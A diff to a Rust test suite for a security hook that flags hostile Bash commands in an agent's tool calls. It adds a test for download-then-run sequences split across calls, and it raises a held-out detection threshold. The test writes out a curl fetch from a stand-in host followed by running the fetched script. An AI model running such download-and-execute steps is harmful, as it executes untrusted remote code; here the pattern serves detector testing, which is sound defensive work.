@@ -97,6 +97,57 @@ fn hostile_commands() {
     assert_eq!((caught, false_alarms), (tried, 0));
 }
 
+/// Download-then-run split over tool calls of one session (`sequences.jsonl`): each row's
+/// commands run as PreToolUse Bash calls of their own session; the last one must raise `expect`
+/// (none: no finding at all). Sessions do not share what they downloaded.
+#[test]
+fn hostile_sequences() {
+    let sb = hostile_sandbox();
+    let (mut tried, mut caught, mut benign, mut false_alarms) = (0, 0, 0, 0);
+    let mut failures = Vec::new();
+    for (i, row) in load("sequences.jsonl").iter().enumerate() {
+        let cmds: Vec<String> = row["cmds"].as_array().unwrap().iter().map(|c| fill(&sb, c.as_str().unwrap())).collect();
+        let expect: Vec<&str> = row["expect"].as_array().unwrap().iter().filter_map(Value::as_str).collect();
+        for (k, cmd) in cmds.iter().enumerate() {
+            let payload = json!({
+                "session_id": format!("s-seq-{i}"), "transcript_path": "/nonexistent.jsonl", "cwd": sb.project,
+                "hook_event_name": "PreToolUse", "tool_name": "Bash", "tool_use_id": format!("toolu_{i}_{k}"),
+                "tool_input": {"command": cmd}
+            });
+            sb.hook(payload.to_string().as_bytes()).no_panic();
+        }
+        let r = sb.records().pop().unwrap();
+        let rules: Vec<&str> = r["security"]["findings"].as_array().map(|a| a.iter().filter_map(|f| f["rule"].as_str()).collect()).unwrap_or_default();
+        if expect.is_empty() {
+            benign += 1;
+            if !rules.is_empty() {
+                false_alarms += 1;
+                failures.push(format!("benign {cmds:?}: flagged {rules:?}"));
+            }
+        } else {
+            tried += 1;
+            if expect.iter().all(|e| rules.contains(e)) {
+                caught += 1;
+            } else {
+                failures.push(format!("hostile {cmds:?}: got {rules:?}"));
+            }
+        }
+    }
+    // The same download, run from another session: not linked.
+    let run = |session: &str, cmd: &str| {
+        let payload = json!({"session_id": session, "cwd": sb.project, "hook_event_name": "PreToolUse", "tool_name": "Bash", "tool_use_id": "t", "tool_input": {"command": cmd}});
+        sb.hook(payload.to_string().as_bytes()).no_panic();
+        sb.records().pop().unwrap()
+    };
+    run("s-one", "curl -so fetched.sh https://x.example/i.sh");
+    let other = run("s-two", "bash fetched.sh");
+    assert!(other["security"]["findings"].as_array().is_none_or(|a| a.is_empty()), "{other}");
+    println!("hostile sequences: caught {caught}/{tried}; false alarms {false_alarms}/{benign} benign");
+    assert!(failures.is_empty(), "{}", failures.join("\n"));
+    assert!(tried >= 4 && benign >= 3);
+    sb.assert_verified();
+}
+
 /// A held-out set, written after the corpus above passed and run once before any fix: its
 /// first-run rates are the honest measure (README). Known misses are listed, not hidden: the
 /// assertion is that no result gets worse than the recorded one.
@@ -110,8 +161,9 @@ fn held_out_commands() {
     assert!(caught >= HELD_OUT_CAUGHT && false_alarms <= HELD_OUT_FALSE_ALARMS, "worse than recorded: {}", failures.join("\n"));
 }
 
-/// First run (before any fix): 20 of 25 caught, 0 of 24 false alarms.
-const HELD_OUT_CAUGHT: u32 = 20;
+/// First run (before any fix): 20 of 25 caught, 0 of 24 false alarms. After the download /
+/// decoder / interpreter work (the five misses' classes closed): 25 of 25.
+const HELD_OUT_CAUGHT: u32 = 25;
 const HELD_OUT_FALSE_ALARMS: u32 = 0;
 
 /// The keyword prefilter never hides a match: for every normalised line of the corpus and every
